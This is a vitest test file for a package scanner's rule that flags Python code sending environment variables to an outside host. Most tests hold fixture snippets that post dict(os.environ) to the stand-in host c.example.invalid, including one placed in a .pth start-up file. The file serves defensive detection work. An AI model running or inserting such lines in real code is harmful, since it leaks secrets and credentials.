import { expect, it } from 'vitest';
import { memoryTree } from '../../support/memory-tree.js';
import { packageOf } from '../../support/model-builders.js';
import { withLimit } from '../../support/lowered-limit.js';
import { scanSignatures } from '../../../src/signatures/index.js';
import { rulesIn, signatures } from '../../support/rules-in.js';

const SENT = 'python/environment-sent';
const apart = {
  'pkg/a.py': 'import os\nkept = dict(os.environ)\n',
  'pkg/b.py': "import requests\nfrom .a import kept\nrequests.post('https://c.example.invalid', json=kept)\n",
};

it('follows scripts together, and those of large packages alone', async () => {
  expect(await rulesIn(apart)).toContain(SENT);
  await withLimit('behaviour-python-together', 10, async () => {
    expect(await rulesIn(apart)).not.toContain(SENT);
    expect(
      await rulesIn({
        'pkg/c.py': `${apart['pkg/a.py']}import requests\nrequests.post('https://c.example.invalid', json=kept)\n`,
      }),
    ).toContain(SENT);
  });
});

it('follows lines of start-up files', async () => {
  const pth = "import os, requests; requests.post('https://c.example.invalid', json=dict(os.environ))";
  expect(await rulesIn({ 'x.pth': pth })).toContain(SENT);
});

it('follows scripts of tests if other code loads them', async () => {
  const code = "import os, requests\nrequests.post('https://c.example.invalid', json=dict(os.environ))\n";
  expect(await rulesIn({ 'pkg/tests/test_a.py': code })).not.toContain(SENT);
  const loading = { 'pkg/__init__.py': 'from .tests import test_a\n', 'pkg/tests/test_a.py': code };
  expect(await rulesIn(loading)).toContain(SENT);
  await withLimit('behaviour-python-together', 10, async () => {
    expect(await rulesIn({ 'pkg/tests/test_a.py': code })).not.toContain(SENT);
    expect(await rulesIn(loading)).toContain(SENT);
  });
});

it('follows scripts whose first line names Python, whatever they are called', async () => {
  const code = "import os, requests\nrequests.post('https://c.example.invalid', json=dict(os.environ))\n";
  expect(await rulesIn({ 'bin/tool': `#!/usr/bin/env python3\n${code}` })).toContain(SENT);
  expect(await rulesIn({ 'bin/tool': `#!/bin/sh\n${code}` })).not.toContain(SENT);
});

it('follows scripts of a large package together that imports join', async () => {
  const files = {
    'pkg/a.py': 'import os\nfrom .b import send\ndef go(): send(dict(os.environ))\n',
    'pkg/b.py': "import requests\ndef send(data): requests.post('https://c.example.invalid', json=data)\n",
    'pkg/c.py': `x = '${'x'.repeat(200)}'\n`,
  };
  await withLimit('behaviour-python-together', 200, async () => {
    expect(await rulesIn(files)).toContain(SENT);
    const unjoined = {
      ...files,
      'pkg/a.py': 'import os\nfrom d import send\ndef go(): send(dict(os.environ))\n',
    };
    expect(await rulesIn(unjoined)).not.toContain(SENT);
  });
});

it('tells what it did not follow to the end, of packages that few know as incomplete', async () => {
  const code = "import os, requests\nrequests.post('https://c.example.invalid', json=dict(os.environ))\n";
  const problemsOf = async (name: string, text = code) => {
    const tree = memoryTree({ 'a/__init__.py': text });
    const packages = [packageOf(name, '1', { ecosystem: 'PyPI', locations: [{ path: 'a' }] })];
    return (await scanSignatures({ tree, packages, signatures })).problems;
  };
  await withLimit('behaviour-python-steps', 0, async () => {
    expect(await problemsOf('nobody-knows-it')).toMatchObject([
      { path: 'a/__init__.py', affectsCompleteness: true },
    ]);
    expect(await problemsOf('requests')).toMatchObject([{ affectsCompleteness: false }]);
  });
  await withLimit('python-depth', 2, async () => {
    expect(await problemsOf('requests')).toMatchObject([{ code: 'too-large', affectsCompleteness: true }]);
  });
});
